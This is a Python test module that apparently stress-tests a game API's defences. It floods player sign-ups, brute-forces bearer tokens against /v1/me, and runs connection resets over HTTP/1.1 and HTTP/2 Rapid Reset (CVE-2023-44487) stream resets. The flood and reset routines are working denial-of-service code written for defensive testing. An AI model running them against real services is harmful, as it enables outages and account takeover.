"""Clients that ask as fast as they can."""

import asyncio
import base64
import os
import socket
import struct
import zlib
from collections.abc import Callable
from typing import TypeAlias

from tests.abuse.crowds.attack import Attack, address_of
from tests.abuse.crowds.wire import CANCEL, RST_STREAM, Line, Request, frame

ADDRESSES = 8
"""Addresses from which a flood comes: each has limits of its own."""

SIGN_UPS, GUESSES = 1, 2
"""The networks of the floods: one flood does not use up the limits of the addresses of the next."""

ANSWERED_WITHIN = 10.0

BURST = 50
"""Requests that are reset together."""

DELAYS = (0.0, 0.003, 0.02)
"""Seconds between requests and their resets: what is reset at once, the server does not even begin."""

LIST = Request("GET", "/v1/games?limit=200")

LINGER = struct.pack("ii", 1, 0)
"""A connection that is closed like this is reset."""


Asks: TypeAlias = Callable[[int], Request]
"""Returns the request of a number."""


async def sign_ups(attack: Attack) -> None:
    """Sign up under one name after the other."""

    async def client(attack: Attack, number: int) -> None:
        body = b'{"name": "flood %d"}'
        fields = {"Content-Type": "application/json"}
        first = number * 1_000_000
        await _flood(attack, number, SIGN_UPS, lambda n: Request("POST", "/v1/players", fields, body % (first + n)))

    await attack.all(client)


async def guesses(attack: Attack) -> None:
    """Guess tokens: of the right form, and of none."""

    def guess(number: int) -> Request:
        secret = base64.urlsafe_b64encode(os.urandom(32)).decode().rstrip("=")
        check = f"{zlib.crc32(secret.encode()):08x}"
        token = (f"ludolog_{secret}", f"ludolog_{secret}{check}", secret)[number % 3]
        return Request("GET", "/v1/me", {"Authorization": f"Bearer {token}"})

    await attack.all(lambda attack, number: _flood(attack, number, GUESSES, guess))


async def _flood(attack: Attack, number: int, network: int, request: Asks) -> None:
    """Send one request after the other, each as soon as the last one is answered."""
    line: Line | None = None
    sent = 0
    while attack.left > 0:
        if line is None or line.is_closed or sent % 1000 == 999:
            if line is not None:
                line.transport.abort()
            line = await attack.open(address=address_of(number, ADDRESSES, network))
            if line is None:
                await asyncio.sleep(0.1)
                continue
        line.ask(request(sent))
        sent += 1
        attack.requests += 1
        await line.changed(min(ANSWERED_WITHIN, max(attack.left, 0.01)))
        attack.ended[str(line.statuses.pop()) if line.statuses else "closed" if line.is_closed else "late"] += 1
    if line is not None:
        line.transport.abort()


async def resets(attack: Attack) -> None:
    """Ask for long lists and reset each request: streams of HTTP/2 (CVE-2023-44487), connections of HTTP/1.1."""
    await attack.all(_reset_connections if attack.target.http == 1 else _reset_streams)


async def _reset_connections(attack: Attack, number: int) -> None:
    while attack.left > 0:
        line = await attack.open()
        if line is None:
            continue
        line.ask(LIST)
        attack.requests += 1
        await asyncio.sleep(DELAYS[number % len(DELAYS)])
        found: socket.socket = line.transport.get_extra_info("socket")
        found.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER)
        line.transport.abort()
        attack.ended["reset"] += 1
        await asyncio.sleep(attack.target.pace / BURST)


async def _reset_streams(attack: Attack, number: int) -> None:
    while attack.left > 0:
        line = await attack.open()
        if line is None:
            continue
        while attack.left > 0 and not line.is_closed:
            first = getattr(line, "stream", -1) + 2
            line.send(b"".join(line.head(LIST, 0) for _ in range(BURST)))
            await asyncio.sleep(DELAYS[number % len(DELAYS)])
            last = first + 2 * BURST
            line.send(b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in range(first, last, 2)))
            attack.requests += BURST
            attack.ended["reset"] += BURST
            await asyncio.sleep(attack.target.pace)
        attack.ended["closed" if line.is_closed else "open"] += 1
        line.transport.abort()
